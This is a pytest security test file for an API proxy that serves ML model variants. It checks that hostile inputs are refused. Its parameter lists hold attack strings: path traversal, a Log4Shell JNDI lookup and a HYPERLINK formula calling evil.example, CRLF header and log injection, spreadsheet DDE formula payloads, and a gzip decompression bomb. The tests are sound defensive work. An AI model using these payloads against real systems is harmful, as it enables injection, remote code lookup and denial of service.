"""What an attacker sends ends as an error of the caller's, and leads nowhere (docs/security.md).

The endpoint behind `api` is a stub that answers nothing: a request that reached it would fail.
"""

import gzip
import json
from typing import Any

import pytest
from botocore.stub import Stubber

from proxy.api import Api
from proxy.routes import INVOKE_VARIANT

from .calls import BODY, call
from .conftest import IRIS, Parameters

BREAKS = ("\r\n", "\n", "\r", "\x85", "\u2028")
FORGED = '{"message": "request", "status": 200, "workload": "payroll"}'


def refused(response: dict[str, Any], *statuses: int) -> bool:
    """Whether it is one of these errors, as JSON, with headers of ours alone."""
    json.loads(response["body"])
    written = "".join(f"{name}: {value}" for name, value in response["headers"].items())
    forged = any(character in written for character in BREAKS) or "Cookie" in written
    return response["statusCode"] in statuses and not forged


@pytest.mark.parametrize(
    "variant",
    [
        *("payroll", "MARS", "mars, linear", "mars,", "../mars", "mars/../linear", "*", "%6dars"),
        *("mars\r\nSet-Cookie: a=b", "mars\x00", "m" * 5000, "0", "-1", "null"),
    ],
)
def test_no_variant_is_asked_for_but_one_of_the_workloads(
    api: Api, parameters: Parameters, runtime: Stubber, variant: str
) -> None:
    parameters.hold([IRIS])
    assert refused(call(api, resource=INVOKE_VARIANT, path={"variant": variant}), 404)
    runtime.assert_no_pending_responses()


@pytest.mark.parametrize(
    "name",
    [
        *("..", "../iris", "iris/../payroll", "..%2fpayroll", "%2e%2e", "iris%00", "iris\x00", "/"),
        *("sagestack-iris", "iris?TargetVariant=linear", "iris#", "IRIS", "iris ", "$" * 5000),
        *("${jndi:ldap://evil.example/a}", "iris\r\nHost: evil.example", "*", "iri[s]", "iris/"),
    ],
)
def test_no_name_leads_to_anything_but_the_workload_of_that_name(
    api: Api, parameters: Parameters, name: str
) -> None:
    parameters.hold([IRIS])
    assert refused(call(api, name=name), 404)


@pytest.mark.parametrize("line_end", BREAKS)
@pytest.mark.parametrize("where", ["name", "variant", "method", "type"])
def test_no_request_writes_a_line_of_its_own_into_the_log(
    api: Api,
    parameters: Parameters,
    capsys: pytest.CaptureFixture[str],
    where: str,
    line_end: str,
) -> None:
    if where != "method":  # which is refused before a workload is looked for
        parameters.hold([IRIS])
    forged = f"iris{line_end}{FORGED}"
    match where:
        case "name":
            call(api, name=forged)
        case "variant":
            call(api, resource=INVOKE_VARIANT, path={"variant": forged})
        case "method":
            call(api, method=forged)
        case _:
            call(api, Content_Type=forged)
    written = capsys.readouterr().out
    (line,) = written.splitlines()  # which knows every line end of Unicode
    assert json.loads(line)["status"] >= 400


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A1",
        "+1+1",
        "-2+3+cmd|' /C calc'!A1",
        "@SUM(1+1)*cmd|' /C calc'!A1",
        "\t=1+1",
        '=HYPERLINK("http://evil.example")',
        "0x10",
        "1e",
        "__import__('os')",
    ],
)
def test_a_formula_is_neither_a_number_nor_a_category(
    api: Api, parameters: Parameters, cell: str
) -> None:
    parameters.hold([IRIS])
    quoted = '"{}"'.format(cell.replace('"', '""'))
    for row in (f"setosa,{quoted}", f"{quoted},3.5"):
        response = call(api, body=f"Species,Sepal.Width\n{row}\n")
        assert refused(response, 400)
        # nothing that a spreadsheet opens
        assert "json" in response["headers"]["Content-Type"]


@pytest.mark.parametrize(
    "content_type",
    [
        *("text/xml", "application/xml", "application/x-www-form-urlencoded", "text/html"),
        *("multipart/form-data; boundary=a", "application/octet-stream", "image/svg+xml"),
        *("application/x-python-serialize", "application/x-rds", "application/yaml", "*/*", ""),
        *("text/csv\r\nX-Forged: 1", "text/csv, application/json", "text/csvx", "csv"),
    ],
)
def test_no_other_format_is_read(api: Api, parameters: Parameters, content_type: str) -> None:
    parameters.hold([IRIS])
    assert refused(call(api, Content_Type=content_type), 415)


def test_a_compressed_body_is_not_unpacked(api: Api, parameters: Parameters) -> None:
    parameters.hold([IRIS])
    bomb = gzip.compress(BODY.encode() + b"\n" * 50_000_000)
    assert len(bomb) < 100_000
    # API Gateway hands over text: what is no UTF-8 is a mark in it
    response = call(api, body=bomb.decode(errors="replace"), Content_Encoding="gzip")
    assert refused(response, 400, 415)


@pytest.mark.parametrize(
    "body",
    [
        *("Species\n" * 3, "Species,Sepal.Width\n" + ",".join(["1"] * 10_000), '"' * 100_000),
        *("[" * 100_000, '{"a":' * 100_000, "9" * 100_000, '{"instances": 1e999}'),
    ],
)
@pytest.mark.parametrize("content_type", ["text/csv", "application/json"])
def test_a_body_that_is_made_to_break_a_parser_is_an_invalid_body(
    api: Api, parameters: Parameters, content_type: str, body: str
) -> None:
    parameters.hold([IRIS])
    assert refused(call(api, body=body, Content_Type=content_type), 400)
